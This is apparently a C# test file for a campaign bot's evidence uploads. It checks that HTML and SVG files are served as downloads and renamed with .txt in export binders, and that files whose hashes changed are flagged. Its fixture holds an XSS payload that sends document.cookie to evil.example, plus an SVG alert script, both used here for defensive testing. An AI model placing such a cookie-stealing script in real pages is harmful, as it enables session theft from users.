using System.IO.Compression;
using System.Net.Http.Headers;
using System.Text;
using CampaignBot.EvidenceFiles;
using CampaignBot.Tests.Support;
using Dapper;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;

namespace CampaignBot.Tests.EvidenceFiles;

/// <summary>
/// Issue 25, "Evidence and callbacks": HTML and SVG files were accepted as evidence and packed into
/// the binder under their own names, so an inspector who opened one locally ran its scripts; and
/// `export evidence.zip` copied a file whose bytes no longer matched its hash without saying so.
/// </summary>
[Needs(Needs.Host)]
public sealed class ActiveContentEvidenceTests : KestrelBotTest
{
    private const string Page = "<html><body><script>fetch('http://evil.example/?c='+document.cookie)</script>已完成</body></html>";
    private const string Drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script><circle r=\"4\"/></svg>";

    [Fact]
    public async Task AnHtmlPageAndAnSvg_SentAsEvidence_AreKept_NeverServedInline_AndPackedWithTxtAdded()
    {
        var zhang = await DirectLineSession.StartAsync(App, Http, "sample-zonghe");
        // As any Direct Line client may send it (Web Chat would say text/html, which the bot ignores as Teams' copy of the message).
        await zhang.UploadAsync("sample-zonghe", "完成 T024", new ByteArrayContent(Encoding.UTF8.GetBytes(Page)) { Headers = { ContentType = new MediaTypeHeaderValue("application/octet-stream") } }, "活动报道.html");
        await zhang.UploadAsync("sample-zonghe", "补充佐证 T024", new ByteArrayContent(Encoding.UTF8.GetBytes(Drawing)) { Headers = { ContentType = new MediaTypeHeaderValue("application/octet-stream") } }, "示意图.svg");

        using (var ledger = App.OpenLedger())
        {
            Assert.Equal(["活动报道.html stored", "示意图.svg stored"], ledger.Query<string>("SELECT original_name || ' ' || state || COALESCE(' ' || last_error, '') FROM evidence_file ORDER BY id"));
            await zhang.UploadAsync("sample-zonghe", "", new StringContent(Page, Encoding.UTF8, "text/html"), "页面.html");
            var claimedHtml = ledger.ExecuteScalar<string>("SELECT id FROM directline_attachment WHERE name = '页面.html'");
            var paths = ledger.Query<string>("SELECT url FROM evidence WHERE kind = 'attachment'").Select(u => new Uri(u).PathAndQuery).Append($"/v3/directline/attachments/{claimedHtml}");
            foreach (var url in paths)
            {
                using var request = new HttpRequestMessage(HttpMethod.Get, url);
                request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", zhang.Token);
                var response = await Http.SendAsync(request);

                response.EnsureSuccessStatusCode();
                Assert.Equal("application/octet-stream", response.Content.Headers.ContentType?.MediaType);
                Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
                Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
            }
        }

        var path = Path.Combine(App.Folder, "binder.zip");
        var (code, output) = await OperatorRun.RunAsync(App.Services, "export", path);

        Assert.True(code == 0, output);
        var entries = Unzip(path);
        Assert.DoesNotContain(entries.Keys, k => k.EndsWith(".html", StringComparison.Ordinal) || k.EndsWith(".svg", StringComparison.Ordinal));
        Assert.Equal(Page, Encoding.UTF8.GetString(entries[Assert.Single(entries.Keys, k => k.EndsWith("/活动报道.html.txt", StringComparison.Ordinal))]));
        Assert.Equal(Drawing, Encoding.UTF8.GetString(entries[Assert.Single(entries.Keys, k => k.EndsWith("/示意图.svg.txt", StringComparison.Ordinal))]));
        var rows = IndexRows(entries).Where(r => (string?)r["编号"] == "T024" && ((string?)r["文件位置"] ?? "").EndsWith(".txt", StringComparison.Ordinal)).ToList();
        Assert.Equal(2, rows.Count);
        Assert.All(rows, r => Assert.Equal(EvidenceBinder.ActiveRemark, r["备注"]));
        Assert.Contains("2 个网页或脚本类文件已加 .txt 后缀", output);
    }

    [Fact]
    public async Task AFileWhoseBytesChangedInTheStore_IsListedByTheBinder_InTheIndexAndTheOutput()
    {
        var zhang = await DirectLineSession.StartAsync(App, Http, "sample-zonghe");
        await zhang.UploadAsync("sample-zonghe", "完成 T024", new ByteArrayContent(TestImages.Png) { Headers = { ContentType = new MediaTypeHeaderValue("image/png") } }, "现场.png");
        string sha;
        using (var ledger = App.OpenLedger())
        {
            sha = ledger.ExecuteScalar<string>("SELECT sha256 FROM evidence_file WHERE state = 'stored'")!;
        }

        var stored = App.Services.GetRequiredService<EvidenceFileStore>().PathOf(sha);
        await File.WriteAllBytesAsync(stored, [.. TestImages.Png, 0x42]);

        var path = Path.Combine(App.Folder, "binder.zip");
        var (code, output) = await OperatorRun.RunAsync(App.Services, "export", path);

        Assert.True(code == 0, output);
        var entries = Unzip(path);
        var packed = Assert.Single(entries.Keys, k => k.EndsWith("/现场.png", StringComparison.Ordinal));
        Assert.Contains("1 个文件的内容与保存时的 SHA-256 不符", output);
        Assert.Contains(packed, output);
        var row = Assert.Single(IndexRows(entries), r => (string?)r["文件位置"] == packed);
        Assert.Equal(EvidenceBinder.ChangedRemark, row["备注"]);
        Assert.Equal(sha, row["SHA-256"]);
    }

    [Fact]
    public async Task AnIntactBinder_SaysNothingOfChangesOrRenames()
    {
        var zhang = await DirectLineSession.StartAsync(App, Http, "sample-zonghe");
        await zhang.UploadAsync("sample-zonghe", "完成 T024", new ByteArrayContent(TestImages.Png) { Headers = { ContentType = new MediaTypeHeaderValue("image/png") } }, "现场.png");

        var (code, output) = await OperatorRun.RunAsync(App.Services, "export", Path.Combine(App.Folder, "binder.zip"));

        Assert.True(code == 0, output);
        Assert.DoesNotContain("SHA-256", output);
        Assert.DoesNotContain(".txt 后缀", output);
        Assert.All(IndexRows(Unzip(Path.Combine(App.Folder, "binder.zip"))), r => Assert.Equal("", r["备注"] ?? ""));
    }

    private static Dictionary<string, byte[]> Unzip(string path)
    {
        using var zip = ZipFile.OpenRead(path);
        return zip.Entries.ToDictionary(e => e.FullName, e =>
        {
            using var stream = e.Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            return copy.ToArray();
        });
    }

    private static List<IDictionary<string, object?>> IndexRows(Dictionary<string, byte[]> entries) =>
        new MemoryStream(entries[EvidenceBinder.IndexName]).Query(useHeaderRow: true).Cast<IDictionary<string, object?>>().ToList();
}
